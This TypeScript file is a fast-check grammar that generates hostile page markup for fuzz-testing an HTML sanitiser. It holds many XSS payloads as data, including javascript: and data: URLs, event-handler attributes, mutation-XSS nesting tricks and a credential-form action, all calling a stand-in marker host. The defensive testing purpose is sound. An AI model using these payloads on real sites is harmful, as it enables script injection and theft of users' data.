/**
 * A grammar of hostile page markup for the sanitiser's fuzz tests (Node and Chromium). Every
 * sample is raw markup, so the parser under test (linkedom or Chromium's) builds whatever tree it
 * builds from it, the way it would from a page.
 *
 * Anything that would do harm if it got through names MARKER_HOST or sets `window.__pwned`, and
 * nothing harmless does: a request to the marker host, or the flag set, means the reader let
 * something through. Harmless addresses name other hosts.
 */
import fc from 'fast-check';
import { MARKER_HOST, PAGE_URL, type FuzzSample } from './sample.js';

const MARK = `https://${MARKER_HOST}`;
/** What a payload runs: sets the flag and phones the marker host. */
const JS = `top.__pwned=1;fetch('${MARK}/js')`;

// ─── Addresses ───────────────────────────────────────────────────────────────────────────────

const SAFE_URLS = [
  'https://news.example/img/quay.jpg',
  '/img/berth.png',
  'img/crane.webp',
  '../photos/dock.jpg',
  '//cdn.example/media/ship.jpg',
  '?page=2',
  '#note-1',
  '#vb-at-note-1',
  '#',
  '#a b',
  '#__proto__',
  `${PAGE_URL}#section-2`,
  'https://news.example/2024/05/harbour-plan.html?utm=1#note-1',
  'HTTPS://NEWS.EXAMPLE/UPPER.JPG',
  'http://news.example/a b.jpg',
  'https://news.example/a,b.jpg',
  'https://news.example/a,',
  'https://user:secret@news.example/x',
  'https://news.example/%0a%3Cp%3E',
  'https://news.example/ünïcode/ß.jpg',
  'https://[::1]/x.jpg',
  'https://news.example:8443/port.jpg',
  'https://www.youtube.com/embed/harbour123',
  'https://www.youtube-nocookie.com/embed/abc',
  'https://player.vimeo.com/video/42',
  'https://www.youtube.com.evil.example/embed/abc',
  'http://www.youtube.com/embed/abc',
  '\\\\cdn.example\\x.jpg',
  '/\\cdn.example/x.jpg',
  'https:news.example/no-slashes.jpg',
  'https:/news.example/one-slash.jpg',
  '  https://news.example/padded.jpg  ',
  '\u00a0/nbsp.jpg',
  '',
  ' ',
];

const BAD_SCHEMES = [
  `javascript:${JS}`,
  `javascript://%0a${JS}`,
  `javascript:void(0);${JS}`,
  `data:text/html,<script>${JS}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"/>`,
  'data:image/png;base64,iVBORw0KGgo=',
  'data:,plain',
  'vbscript:msgbox(1)',
  `blob:${MARK}/blob-id`,
  'file:///etc/passwd',
  `filesystem:${MARK}/temporary/x`,
  `ftp://${MARKER_HOST}/file`,
  `ws://${MARKER_HOST}/socket`,
  'mailto:desk@news.example',
  'tel:+441234567',
  'about:blank',
  'chrome://settings',
  `view-source:${MARK}/vs`,
  `intent://${MARKER_HOST}#Intent;end`,
  `jar:${MARK}/x.jar!/`,
];

/** Addresses that swallowed markup or quotes: http(s), but never to be kept. */
const LEAKY_URLS = [
  `${MARK}/leak?t=secret\n<p>next paragraph`,
  `${MARK}/leak?t=<b>bold`,
  `${MARK}/leak?t=a>b`,
  `${MARK}/leak?t="quoted`,
  `${MARK}/leak?t='single`,
  `${MARK}/leak?t=\`tick`,
  `${MARK}/leak?t=a\rb`,
  `${MARK}/leak?t=a\u0001b`,
  `${MARK}/leak?t=a\u007fb`,
  `${MARK}/le\tak`,
  `${MARK}/leak\n`,
  // References as text (the page wrote "&amp;lt;"): harmless here, markup once a serialiser that
  // leaves "&" alone (linkedom's) writes them out.
  `${MARK}/leak?t=&lt;p&gt;`,
  `${MARK}/leak?t=&#10;x`,
  `${MARK}/leak?t=&#x3c;b`,
  `${MARK}/leak?t=&quot`,
  `/relative/leak?t=&NewLine;`,
];

/** Hides a scheme from naive checks: mixed case, tabs and newlines inside, control characters before. */
function obfuscate(url: string, how: number): string {
  if (how === 0) return url;
  const colon = url.indexOf(':');
  if (colon < 1) return url;
  let scheme = url.slice(0, colon);
  const rest = url.slice(colon);
  if (how & 1)
    scheme = Array.from(scheme, (c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join('');
  if (how & 2) scheme = scheme.slice(0, 2) + '\t' + scheme.slice(2, 4) + '\n' + scheme.slice(4);
  if (how & 4) scheme = '\r' + scheme;
  const lead = how & 8 ? '\u0001\u0010 \u001f' : how & 16 ? '\u0000' : '';
  return `${lead}${scheme}${rest}`;
}

export const urlArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...SAFE_URLS) },
  {
    weight: 4,
    arbitrary: fc
      .tuple(fc.constantFrom(...BAD_SCHEMES), fc.nat({ max: 31 }))
      .map(([url, how]) => obfuscate(url, how)),
  },
  { weight: 2, arbitrary: fc.constantFrom(...LEAKY_URLS) },
);

const DESCRIPTORS = [
  '',
  '',
  '1x',
  '2x',
  '1.5x',
  '640w',
  '480h',
  '1e1x',
  'x',
  '-1x',
  '2x 640w',
  '640w 480h',
  '1x 2x',
  '(max-width: 9px)',
  'data:,x',
];
const SEPARATORS = [', ', ',', ' , ', ',\n  ', '\t,', ',,'];

const srcsetArb: fc.Arbitrary<string> = fc
  .array(fc.tuple(urlArb, fc.constantFrom(...DESCRIPTORS), fc.constantFrom(...SEPARATORS)), {
    minLength: 1,
    maxLength: 4,
  })
  .map((candidates) =>
    candidates
      .map(
        ([url, descriptor, sep], i) => `${i ? sep : ''}${url}${descriptor ? ` ${descriptor}` : ''}`,
      )
      .join(''),
  );

// ─── Attributes ──────────────────────────────────────────────────────────────────────────────

const URL_NAMES = [
  'href',
  'src',
  'poster',
  'cite',
  'action',
  'formaction',
  'data',
  'background',
  'lowsrc',
  'dynsrc',
  'ping',
  'codebase',
  'longdesc',
  'xlink:href',
  'HREF',
  'Src',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'ONMOUSEOVER',
  'onfocus',
  'onbegin',
  'onanimationstart',
  'ontoggle',
  'onpageshow',
  'onauxclick',
  'onbeforetoggle',
  'oNeRrOr',
];
const CLOBBER = [
  '__proto__',
  'body',
  'constructor',
  'prototype',
  'location',
  'cookie',
  'attributes',
  'readability-page-1',
  'vb-at-note-1',
  'vb-title',
  'note-1',
  'a b',
  'x'.repeat(90),
  'ünï',
  '"><img src=x onerror=1>',
];
const PLAIN: Array<[string, string[]]> = [
  ['alt', ['Harbour at dawn', '"><script>x</script>', '<img src=x onerror=1>', '']],
  ['title', ['A title', `javascript:${JS}`, '</p><p>']],
  ['lang', ['en', 'fr-CA', '"x']],
  ['dir', ['ltr', 'rtl', 'auto', 'evil', 'RTL']],
  ['width', ['640', '100%', '-1', 'x']],
  ['height', ['480', '0']],
  ['colspan', ['2', '1000']],
  ['rowspan', ['3']],
  ['datetime', ['2024-05-01', '<x>']],
  ['sizes', ['(max-width: 600px) 100vw, 600px']],
  ['media', ['(min-width: 1px)']],
  ['type', ['image/webp', 'text/html', 'a']],
  ['kind', ['captions']],
  ['srclang', ['en']],
  ['label', ['English']],
  ['start', ['3']],
  ['value', ['7']],
  ['span', ['2']],
  ['scope', ['col']],
  ['headers', ['h1']],
  ['open', ['']],
  ['controls', ['']],
  ['reversed', ['']],
  ['allowfullscreen', ['']],
  ['class', ['caption', 'wp-caption-text', 'related', 'hidden', 'promo newsletter', 'share']],
  ['hidden', ['']],
  ['aria-hidden', ['true']],
  ['data-vb-removed', ['related-links', 'bogus', '"><x>']],
  ['data-vb-embed', ['video', 'x']],
  ['data-vb-hint', ['promo']],
  ['data-vb-label', ['Hidden: x']],
  ['target', ['_self', '_top', 'x']],
  ['rel', ['opener', 'noopener']],
  ['loading', ['eager']],
  ['decoding', ['sync']],
  ['sandbox', ['allow-top-navigation allow-scripts']],
  ['referrerpolicy', ['unsafe-url']],
  ['srcdoc', [`<script>${JS}</script>`, `<img src=x onerror="${JS}">`]],
  ['style', [`background:url(${MARK}/css)`, 'x:expression(alert(1))', '-moz-binding:url(x)']],
  ['is', ['x-widget']],
  ['slot', ['s']],
  ['nonce', ['abc']],
  ['autofocus', ['']],
  ['contenteditable', ['true']],
  ['popover', ['']],
  ['tabindex', ['0']],
  ['xmlns', ['http://www.w3.org/2000/svg']],
  ['http-equiv', ['refresh']],
  ['content', [`0;url=javascript:${JS}`]],
  ['attributename', ['href']],
  ['to', [`javascript:${JS}`]],
  ['values', [`javascript:${JS}`]],
  ['encoding', ['text/html']],
  ['/', ['']],
];

export interface Attr {
  name: string;
  value: string | null;
}

const attrArb: fc.Arbitrary<Attr> = fc.oneof(
  { weight: 5, arbitrary: fc.record({ name: fc.constantFrom(...URL_NAMES), value: urlArb }) },
  {
    weight: 2,
    arbitrary: fc.record({ name: fc.constantFrom('srcset', 'SRCSET'), value: srcsetArb }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      name: fc.constantFrom(...HANDLERS),
      value: fc.constantFrom(JS, `"${JS}`, `${JS}//`),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      name: fc.constantFrom('id', 'name', 'ID'),
      value: fc.constantFrom(...CLOBBER),
    }),
  },
  {
    weight: 5,
    arbitrary: fc
      .constantFrom(...PLAIN)
      .chain(([name, values]) =>
        fc.record({ name: fc.constant(name), value: fc.option(fc.constantFrom(...values)) }),
      ),
  },
);

const ENTITIES: Record<string, string[]> = {
  ':': ['&colon;', '&#58;', '&#x3a;'],
  '\t': ['&Tab;', '&#9;', '&#x09;'],
  '\n': ['&NewLine;', '&#10;', '&#x0A;'],
  '(': ['&lpar;', '&#40;'],
  '/': ['&sol;', '&#47;'],
  '.': ['&period;', '&#46;'],
  '<': ['&lt;', '&#60;', '&LT'],
  '>': ['&gt;', '&#62;'],
  '"': ['&quot;', '&#34;', '&QUOT'],
  "'": ['&apos;', '&#39;'],
  '&': ['&amp;', '&#38;'],
};

/**
 * Writes an attribute as markup. `how` picks the quoting (double, single, none) and how many
 * characters become entities (named, decimal, hex, with and without the semicolon).
 */
function writeAttr({ name, value }: Attr, how: number): string {
  if (value === null) return ` ${name}`;
  const quote = ['"', "'", ''][how % 3]!;
  const encodeAll = Math.floor(how / 3) % 4;
  let out = '';
  for (let i = 0; i < value.length; i++) {
    const c = value[i]!;
    const entities = ENTITIES[c];
    // Decimal entities without their semicolon must not run into a following digit.
    const forms = entities?.filter((e) => e.endsWith(';') || !/[\w;=]/.test(value[i + 1] ?? ''));
    const mustEncode = c === '&' || c === quote || (!quote && /[\s"'=<>`]/.test(c));
    if (forms?.length && (mustEncode || (encodeAll > 0 && (i + encodeAll) % 2 === 0)))
      out += forms[(i + how) % forms.length];
    else if (mustEncode) out += `&#${c.codePointAt(0)};`;
    else if (encodeAll === 3 && /[a-z]/i.test(c) && i % 3 === 0)
      out += `&#x${c.codePointAt(0)!.toString(16)};`;
    else out += c;
  }
  if (!quote && out === '') return ` ${name}=""`;
  return ` ${name}=${quote}${out}${quote}`;
}

/** The address attributes an element keeps: the sanitiser's real work, so they come often. */
const OWN_URL_ATTRS: Record<string, string[]> = {
  a: ['href'],
  img: ['src', 'srcset'],
  source: ['src', 'srcset'],
  video: ['src', 'poster'],
  audio: ['src'],
  track: ['src'],
  iframe: ['src'],
  blockquote: ['cite'],
  q: ['cite'],
  del: ['cite'],
  ins: ['cite'],
};

const attrsArb = (tag: string): fc.Arbitrary<string> => {
  const own = OWN_URL_ATTRS[tag];
  const arb = own
    ? fc.oneof(
        attrArb,
        fc.record({
          name: fc.constantFrom(...own),
          value: own.includes('srcset') ? fc.oneof(urlArb, srcsetArb) : urlArb,
        }),
      )
    : attrArb;
  return fc
    .array(fc.tuple(arb, fc.nat({ max: 11 })), { maxLength: 4 })
    .map((attrs) => attrs.map(([attr, how]) => writeAttr(attr, how)).join(''));
};

// ─── Elements ────────────────────────────────────────────────────────────────────────────────

/** Allowed and ordinary elements: their attributes are what the sanitiser must clean. */
const KEPT_TAGS = [
  'a',
  'a',
  'a',
  'img',
  'img',
  'img',
  'p',
  'p',
  'div',
  'span',
  'b',
  'i',
  'em',
  'strong',
  'blockquote',
  'q',
  'cite',
  'figure',
  'figcaption',
  'picture',
  'source',
  'video',
  'audio',
  'track',
  'iframe',
  'iframe',
  'ul',
  'ol',
  'li',
  'dl',
  'dt',
  'dd',
  'table',
  'caption',
  'colgroup',
  'col',
  'thead',
  'tbody',
  'tr',
  'td',
  'th',
  'h1',
  'h2',
  'h3',
  'h6',
  'pre',
  'code',
  'details',
  'summary',
  'section',
  'article',
  'aside',
  'header',
  'footer',
  'main',
  'hr',
  'br',
  'wbr',
  'ruby',
  'rt',
  'rp',
  'del',
  'ins',
  'time',
  'sub',
  'sup',
  'small',
  'mark',
  'abbr',
];
/** Elements dropped, unwrapped or rewritten by the parser itself. */
const OTHER_TAGS = [
  'script',
  'style',
  'noscript',
  'template',
  'form',
  'input',
  'button',
  'select',
  'option',
  'textarea',
  'object',
  'embed',
  'param',
  'frameset',
  'frame',
  'applet',
  'link',
  'meta',
  'base',
  'title',
  'dialog',
  'canvas',
  'svg',
  'math',
  'portal',
  'slot',
  'fencedframe',
  'marquee',
  'nav',
  'center',
  'font',
  'image',
  'listing',
  'xmp',
  'noembed',
  'noframes',
  'keygen',
  'isindex',
  'x-widget',
  'my-card',
  'annotation-xml',
  'foreignobject',
  'address',
  'menu',
  'search',
  'label',
  'output',
];
const VOID = new Set([
  'img',
  'source',
  'track',
  'col',
  'hr',
  'br',
  'wbr',
  'input',
  'embed',
  'param',
  'frame',
  'link',
  'meta',
  'base',
  'keygen',
  'isindex',
  'image',
]);

const WORDS =
  'the harbour council said on monday that the new berths would open in spring after a long review of the plan'.split(
    ' ',
  );

const textArb: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .array(fc.constantFrom(...WORDS), { minLength: 1, maxLength: 12 })
      .map((w) => w.join(' ')),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '“We will build it,” said Mayor Jane Doe. ',
      '&lt;img src=x onerror=1&gt;',
      '&amp;lt;script&amp;gt;',
      '&#60;script&#62;',
      ' & < > " \' ` ',
      '\u0000\u0001 nul',
      '\r\n',
      '\n\nleading newlines',
      '\u2028\u2029',
      '<',
      '</',
      '<3 <a',
      '&',
      '&amp',
      '&notin; &notit;',
    ),
  },
);

/** Markup tricks that are not a well-formed element: comments, CDATA, bogus tags, cut-off tags. */
const TRICKS = [
  `<!--<img src=x onerror="${JS}">-->`,
  `<!--><img src=x onerror="${JS}">-->`,
  `<!---><img src=x onerror="${JS}">-->`,
  `<!--!><img src=x onerror="${JS}">-->`,
  `<!-- --!><img src=x onerror="${JS}">-->`,
  `<![CDATA[<img src=x onerror="${JS}">]]>`,
  `<?xml version="1.0"?><img src=x onerror="${JS}">`,
  `</ img src=x onerror="${JS}">`,
  `</p id="x" onclick="${JS}">`,
  `<!DOCTYPE html><img src=x onerror="${JS}">`,
  `<img src=x onerror="${JS}"`,
  `<a href="javascript:${JS}">`,
  `<svg><p><style><img src=x onerror="${JS}">`,
  `<svg></p><style><a id="</style><img src=x onerror=${JS}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${JS}">`,
  `<math><mi><mglyph><svg><mtext><style><img src=x onerror="${JS}">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${JS}">`,
  `<svg><foreignObject><p>in foreign</p><img src=x onerror="${JS}"></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${JS}"><text y="9">x</text></a><animate attributeName="href" to="javascript:${JS}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${JS}'/></svg>#x"/></svg>`,
  `<svg><script>${JS}</script><![CDATA[</svg><img src=x onerror="${JS}">]]></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript>`,
  `<noscript><img src="${MARK}/noscript.jpg"></noscript>`,
  `<style><img src=x onerror="${JS}"></style>`,
  `<style>@import '${MARK}/css'; p{background:url(${MARK}/bg)}</style>`,
  `<script>${JS}</script>`,
  `<script src="${MARK}/x.js"></script>`,
  `<script>/*</script><img src=x onerror="${JS}">*/</script>`,
  `<title><img src=x onerror="${JS}"></title>`,
  `<textarea></textarea><img src=x onerror="${JS}"></textarea>`,
  `<xmp></xmp><img src=x onerror="${JS}"></xmp>`,
  `<template><img src=x onerror="${JS}"></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${JS}"></template>`,
  `<iframe srcdoc="<script>${JS}</script>"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>${JS}</script>" onload="${JS}"></iframe>`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<object data="${MARK}/x.swf"><param name=movie value="${MARK}/y"><img src=x onerror="${JS}"></object>`,
  `<embed src="${MARK}/plugin">`,
  `<form action="${MARK}/steal"><input name=password type=password><button formaction="javascript:${JS}">Go</button></form>`,
  `<form id="body"><input name="attributes"></form>`,
  `<base href="https://base.example/other/">`,
  `<base target="'">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  `<meta http-equiv="refresh" content="0;url=${MARK}/refresh">`,
  `<link rel="stylesheet" href="${MARK}/style.css">`,
  `<link rel="preload" as="image" href="${MARK}/pre.jpg">`,
  `<img src=x onerror="${JS}">`,
  `<img/src=x/onerror="${JS}">`,
  `<img src=x onerror\u000c="${JS}">`,
  `<img src="x" ="" onerror="${JS}">`,
  `<image src="${MARK}/image-tag.jpg" onerror="${JS}">`,
  `<video><source onerror="${JS}"></video>`,
  `<video poster="javascript:${JS}" src="${MARK}/leak?a=<b"></video>`,
  `<audio src=x onerror="${JS}"></audio>`,
  `<details open ontoggle="${JS}"><summary>s</summary>d</details>`,
  `<a href="#vb-at-note-1">n</a><p id="note-1">note</p>`,
  `<a name="top"></a><a href="#top">top</a>`,
  `<a href="${PAGE_URL}#note-1">self</a>`,
  `<a href="https://base.example/other/#note-1">base</a>`,
  `<table><a href="javascript:${JS}">fostered</a><tr><td>cell</td></tr></table>`,
  `<table><tr><td>a<td>b</table>`,
  `<table>text<div>block</div><caption>c</caption></table>`,
  `<ul><li>a<li>b<nav><li>in nav</li></nav></ul>`,
  `<ul><li>a<center><li>in center</li></center></li></ul>`,
  `<dl><dt>a<dd>b<nav><dt>c</dt></nav></dl>`,
  `<a href="/a">a<marquee><a href="/b">b</a></marquee></a>`,
  `<h2>a<nav><h3>b</h3></nav></h2>`,
  `<p>a<marquee><p>b</p></marquee></p>`,
  `<p>a<table><tr><td>b</td></tr></table></p>`,
  `<pre>\nfirst line kept</pre>`,
  `<pre>\n\nsecond</pre>`,
  `<select><style><img src=x onerror="${JS}"></style></select>`,
  `<plaintext><img src=x onerror="${JS}">`,
];

interface Tree {
  tag: string;
  attrs: string;
  children: string[];
}

function writeElement({ tag, attrs, children }: Tree): string {
  if (VOID.has(tag)) return `<${tag}${attrs}>${children.join('')}`;
  return `<${tag}${attrs}>${children.join('')}</${tag}>`;
}

/** An element whose address attribute has an unclosed quote: it swallows the markup after it. */
const danglingArb = (inner: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.constantFrom(
        'img src',
        'a href',
        'img srcset',
        'video poster',
        'source srcset',
        'iframe src',
      ),
      fc.constantFrom('"', "'"),
      fc.constantFrom(`${MARK}/leak?t=`, `${MARK}/leak?t=1 2x, /ok.jpg 1x,`, '/relative/leak?t='),
      inner,
      fc.boolean(),
    )
    .map(([start, quote, url, swallowed, close]) => {
      const [tag, attr] = start.split(' ');
      return `<${tag} alt=x ${attr}=${quote}${url}${swallowed}${close ? `${quote}>` : ''}`;
    });

/** Inline elements nested deep around some text. */
const deepArb: fc.Arbitrary<string> = fc
  .tuple(
    fc.array(fc.constantFrom('b', 'i', 'span', 'em', 'a', 'font', 'x-y', 'u', 'small', 'q'), {
      minLength: 1,
      maxLength: 4,
    }),
    fc.integer({ min: 4, max: 32 }),
    textArb,
  )
  .map(([tags, depth, text]) => {
    const chain = Array.from({ length: depth }, (_, i) => tags[i % tags.length]!);
    return `${chain.map((t) => `<${t}>`).join('')}${text}${chain
      .reverse()
      .map((t) => `</${t}>`)
      .join('')}`;
  });

const { node: nodeArb } = fc.letrec<{ node: string; element: string }>((tie) => ({
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    { weight: 4, arbitrary: textArb },
    { weight: 6, arbitrary: tie('element') },
    { weight: 2, arbitrary: fc.constantFrom(...TRICKS) },
    { weight: 1, arbitrary: danglingArb(tie('node')) },
    { weight: 1, arbitrary: deepArb },
  ),
  element: fc
    .oneof(
      { weight: 3, arbitrary: fc.constantFrom(...KEPT_TAGS) },
      { weight: 1, arbitrary: fc.constantFrom(...OTHER_TAGS) },
    )
    .chain((tag) =>
      fc.record({
        tag: fc.constant(tag),
        attrs: attrsArb(tag),
        children: fc.array(tie('node'), { maxLength: 3, depthIdentifier: 'markup' }),
      }),
    )
    .map(writeElement),
}));

/** A hostile fragment: a few nodes of the grammar side by side. */
export const fragmentArb: fc.Arbitrary<string> = fc
  .array(nodeArb, { minLength: 1, maxLength: 3 })
  .map((nodes) => nodes.join(''));

// ─── The page around it ──────────────────────────────────────────────────────────────────────

const TITLE = 'Harbour council approves the eastern quay plan';
/**
 * Three paragraphs, the first two long enough for Readability's first pass to take the page on
 * their own, and no more text than that: read() costs time in proportion.
 */
const PARAGRAPHS = [
  'The harbour council approved the plan for two deep-water berths on the eastern quay on Monday evening, after a consultation that drew more than four hundred written responses from residents, fishing crews and shipping firms. The vote was seven to two.',
  '“This is the biggest change to the port in fifty years,” said council leader Mary Okafor, who chaired the meeting. She said the berths would let the port handle the larger container ships that now sail past to other harbours.',
  'Fishing crews had asked for a guarantee that the harbour mouth would stay open during the works, and the plan now keeps one channel clear at all times.',
];
const HEAD_EXTRAS = [
  '',
  `<base href="https://base.example/other/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  `<style>body{background:url(${MARK}/head-css)}</style>`,
  `<script>${JS}</script>`,
  `<link rel="stylesheet" href="${MARK}/head.css">`,
  `<meta property="og:type" content="article">`,
  `<meta name="author" content="<img src=x onerror=1>">`,
];

export const sampleArb: fc.Arbitrary<FuzzSample> = fc
  .record({
    fragment: fragmentArb,
    // Mostly after two paragraphs: a fragment that swallows the rest of the page (an unclosed
    // <style>, <iframe> or quote) then still leaves an article, and Readability one pass.
    position: fc.oneof(
      { weight: 1, arbitrary: fc.constantFrom(0, 1) },
      { weight: 4, arbitrary: fc.constantFrom(2, 3) },
    ),
    wrap: fc.constantFrom('', 'p', 'div', 'section', 'figure', 'li'),
    doctype: fc.boolean(),
    head: fc.constantFrom(...HEAD_EXTRAS),
    article: fc.constantFrom('article', 'div class="story-body"', 'main'),
    embeds: fc.constantFrom<'frame' | 'link'>('frame', 'link'),
    strip: fc.boolean(),
    baseUrl: fc.constantFrom<string | null>(PAGE_URL, PAGE_URL, PAGE_URL, null),
  })
  .map(({ fragment, position, wrap, doctype, head, article, embeds, strip, baseUrl }) => {
    const blocks = PARAGRAPHS.map((p) => `<p>${p}</p>`);
    blocks.splice(position, 0, wrap ? `<${wrap}>${fragment}</${wrap}>` : fragment);
    const container = article.split(' ')[0]!;
    const page =
      `${doctype ? '<!DOCTYPE html>' : ''}<html lang="en"><head><meta charset="utf-8">` +
      `<title>${TITLE} - Harbour Herald</title>${head}</head><body>` +
      `<header><a href="/">Harbour Herald</a></header>` +
      `<${article}><h1>${TITLE}</h1>${blocks.join('\n')}</${container}>` +
      `<footer><p>© Harbour Herald</p></footer></body></html>`;
    return { page, fragment, embeds, strip, baseUrl };
  });
